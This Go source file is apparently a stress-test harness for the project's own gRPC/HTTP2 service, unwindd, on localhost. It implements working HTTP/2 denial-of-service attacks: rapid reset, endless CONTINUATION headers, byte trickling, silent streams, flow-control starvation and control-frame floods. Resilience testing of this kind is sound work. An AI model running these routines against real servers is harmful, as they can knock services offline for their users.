// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks by HTTP/2 and gRPC, frame by frame.

// session is a connection of HTTP/2.
type session struct {
	net.Conn
	*http2.Framer
	buffer  bytes.Buffer
	encoder *hpack.Encoder

	mu      sync.Mutex
	more    *sync.Cond
	all     int            // bytes that the server takes on the connection
	initial int            // likewise on a new stream
	streams map[uint32]int // likewise on each
	gone    error
}

// session opens one. window is how much the server may send on a stream.
func (a *attacker) session(ctx context.Context, window uint32) (*session, error) {
	c, err := a.dial(ctx)
	if err != nil {
		return nil, err
	}
	s := &session{Conn: c, Framer: http2.NewFramer(c, c), all: 65535, initial: 65535, streams: map[uint32]int{}}
	s.more = sync.NewCond(&s.mu)
	s.encoder = hpack.NewEncoder(&s.buffer)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		return nil, err
	}
	ready := make(chan struct{})
	go s.read(ready)
	select {
	case <-ready:
		return s, s.WriteSettingsAck()
	case <-time.After(2 * time.Second):
		_ = c.Close()
		return nil, errors.New("no settings came")
	}
}

// read takes frames until there are no more.
func (s *session) read(ready chan struct{}) {
	begin := sync.OnceFunc(func() { close(ready) })
	defer begin()
	for {
		f, err := s.ReadFrame()
		s.mu.Lock()
		if err != nil {
			s.gone = err
			s.more.Broadcast()
			s.mu.Unlock()
			return
		}
		switch f := f.(type) {
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				s.all += int(f.Increment)
			} else {
				s.streams[f.StreamID] += int(f.Increment)
			}
		case *http2.SettingsFrame:
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				s.initial = int(v)
			}
			begin()
		case *http2.RSTStreamFrame:
			s.streams[f.StreamID] = -1 << 40
		}
		s.more.Broadcast()
		s.mu.Unlock()
	}
}

// open begins a stream.
func (s *session) open(id uint32, ends bool, fields ...string) error {
	s.mu.Lock()
	s.streams[id] += s.initial
	s.mu.Unlock()
	return s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: s.block(fields...), EndHeaders: true, EndStream: ends})
}

func (s *session) block(fields ...string) []byte {
	s.buffer.Reset()
	for i := 0; i < len(fields); i += 2 {
		_ = s.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // into memory
	}
	return s.buffer.Bytes()
}

// call begins a call of gRPC.
func (s *session) call(id uint32, method, token string) error {
	return s.open(id, false, ":method", "POST", ":scheme", "http", ":path", method, ":authority", "localhost", "content-type", "application/grpc", "te", "trailers", "authorization", "Bearer "+token)
}

// get begins a request without a body.
func (s *session) get(id uint32, path, token string) error {
	return s.open(id, true, ":method", "GET", ":scheme", "http", ":path", path, ":authority", "localhost", "authorization", "Bearer "+token)
}

// errNoWindow is the error of a server that takes no more.
var errNoWindow = errors.New("the server takes no more")

// send sends data as the server lets it.
func (s *session) send(id uint32, data []byte) error {
	timer := time.AfterFunc(time.Second, func() { s.mu.Lock(); defer s.mu.Unlock(); s.more.Broadcast() })
	defer timer.Stop()
	late := time.Now().Add(time.Second)
	s.mu.Lock()
	for s.gone == nil && (s.all < len(data) || s.streams[id] < len(data)) {
		if time.Now().After(late) {
			s.mu.Unlock()
			return errNoWindow
		}
		s.more.Wait()
	}
	gone := s.gone
	s.all -= len(data)
	s.streams[id] -= len(data)
	s.mu.Unlock()
	if gone != nil {
		return gone
	}
	return s.WriteData(id, false, data)
}

// prefix begins a message of gRPC.
func prefix(n uint32) []byte { return binary.BigEndian.AppendUint32([]byte{0}, n) }

// methods are all of the server's.
var methods = []string{
	"/unwindd.v1.Unwindd/Stack", "/unwindd.v1.Unwindd/Walk", "/unwindd.v1.Unwindd/Profile", "/unwindd.v1.Unwindd/Snapshot", "/unwindd.v1.Unwindd/Evaluate", "/unwindd.v1.Unwindd/Symbolize",
	"/unwindd.v1.Unwindd/SymbolizeProfile", "/unwindd.v1.Unwindd/PutObject", "/unwindd.v1.Unwindd/Architectures", "/unwindd.v1.Unwindd/FindObjects",
	"/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch", "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
	"/opentelemetry.proto.collector.profiles.v1development.ProfilesService/Export", "/no.such.Service/Method",
}

// sessions runs something on many connections, again when they end.
func sessions(n int, window uint32, do func(ctx context.Context, a *attacker, s *session) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		many(ctx, n, func(ctx context.Context, _ int) error {
			s, err := a.session(ctx, window)
			if err != nil {
				return err
			}
			defer s.Close()
			if err := do(ctx, a, s); err != nil && !errors.Is(err, errNoWindow) {
				return err
			}
			for s.isThere() && ctx.Err() == nil { // streams stay as they are
				pause(ctx, 200*time.Millisecond)
			}
			return nil
		})
		return nil
	}
}

func (s *session) isThere() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.gone == nil
}

// streamsOfAConnection are as many as servers in Go take.
const streamsOfAConnection = 240

// endlessMessages sends messages that never end, of every method in turn.
func endlessMessages(_ context.Context, a *attacker, s *session) error {
	piece := make([]byte, 16<<10)
	for i := range uint32(40) {
		id := 2*i + 1
		if err := s.call(id, methods[int(i)%7], a.token()); err != nil {
			return err
		}
		if err := s.send(id, prefix(32<<20-10)); err != nil {
			return err
		}
		for range 30 << 20 / len(piece) {
			if err := s.send(id, piece); errors.Is(err, errNoWindow) {
				break
			} else if err != nil {
				return err
			}
		}
	}
	return nil
}

// trickle sends single bytes to many streams in turn.
func trickle(ctx context.Context, a *attacker, s *session) error {
	for i := range uint32(streamsOfAConnection) {
		if err := errors.Join(s.call(2*i+1, methods[0], a.token()), s.send(2*i+1, prefix(32<<20-10))); err != nil {
			return err
		}
	}
	for ctx.Err() == nil {
		for i := range uint32(streamsOfAConnection) {
			if err := s.send(2*i+1, []byte{0}); err != nil {
				return err
			}
		}
	}
	return nil
}

// silentStreams begins streams, and says nothing.
func silentStreams(_ context.Context, a *attacker, s *session) error {
	for i := range uint32(streamsOfAConnection) {
		if err := s.call(2*i+1, methods[int(i)%len(methods)], a.token()); err != nil {
			return err
		}
	}
	return nil
}

// silentBodies begins requests by HTTP/2 that are to have a body.
func silentBodies(_ context.Context, a *attacker, s *session) error {
	for i := range uint32(streamsOfAConnection) {
		if err := s.open(2*i+1, false, ":method", "POST", ":scheme", "http", ":path", "/v1/stack", ":authority", "localhost", "authorization", "Bearer "+a.token(), "content-length", "10000000"); err != nil {
			return err
		}
	}
	return nil
}

// openedMethods begins a call of every method with a message, where one is enough, and stays.
func openedMethods(_ context.Context, a *attacker, s *session) error {
	for i := range uint32(streamsOfAConnection) {
		id := 2*i + 1
		if err := errors.Join(s.call(id, methods[int(i)%len(methods)], a.token()), s.send(id, append(prefix(2), 0x0a, 0))); err != nil {
			return err
		}
	}
	return nil
}

// rapidReset begins requests and takes them back.
func rapidReset(ctx context.Context, a *attacker, s *session) error {
	for id := uint32(1); id < 1<<20 && ctx.Err() == nil; id += 2 {
		begin := s.get
		if id%4 == 1 {
			begin = s.call
		}
		path := "/metrics"
		if id%4 == 1 {
			path = methods[5]
		}
		if err := errors.Join(begin(id, path, a.token()), s.WriteRSTStream(id, http2.ErrCodeCancel)); err != nil {
			return err
		}
	}
	return nil
}

// continuations sends headers that never end.
func continuations(ctx context.Context, a *attacker, s *session) error {
	err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.block(":method", "GET", ":scheme", "http", ":path", "/healthz", ":authority", "localhost"), EndStream: true})
	for i := 0; err == nil && ctx.Err() == nil; i++ {
		err = s.WriteContinuation(1, false, s.block(fmt.Sprintf("x-%d", i), strings.Repeat("v", 12_000)))
	}
	return err
}

// controls sends frames that have to be answered, and reads none of the answers.
func controls(ctx context.Context, a *attacker) error {
	many(ctx, 8, func(ctx context.Context, i int) error {
		c, err := a.dial(ctx)
		if err != nil {
			return err
		}
		defer c.Close()
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		f := http2.NewFramer(c, c)
		for n := uint32(0); ctx.Err() == nil; n++ {
			_ = c.SetWriteDeadline(time.Now().Add(time.Second))
			switch {
			case i%3 == 0 && n > 0:
				err = f.WritePing(false, [8]byte{})
			case i%3 == 1 && n > 0:
				err = f.WritePriority(2*n+1, http2.PriorityParam{StreamDep: 2*n - 1, Weight: 255})
			default:
				err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: n << 12})
			}
			if err != nil {
				return err
			}
		}
		return nil
	})
	return nil
}

// noWindow has reports made, and takes nothing of them.
func noWindow(_ context.Context, a *attacker, s *session) error {
	body := packed(core(5000, false))
	for i := range uint32(24) {
		id := 2*i + 1
		if err := s.open(id, false, ":method", "POST", ":scheme", "http", ":path", "/v1/stack?registers", ":authority", "localhost", "authorization", "Bearer "+a.token()); err != nil {
			return err
		}
		for rest := body; len(rest) > 0; {
			n := min(len(rest), 16<<10)
			if err := s.send(id, rest[:n]); err != nil {
				return err
			}
			rest = rest[n:]
		}
		if err := s.WriteData(id, true, nil); err != nil {
			return err
		}
	}
	return nil
}
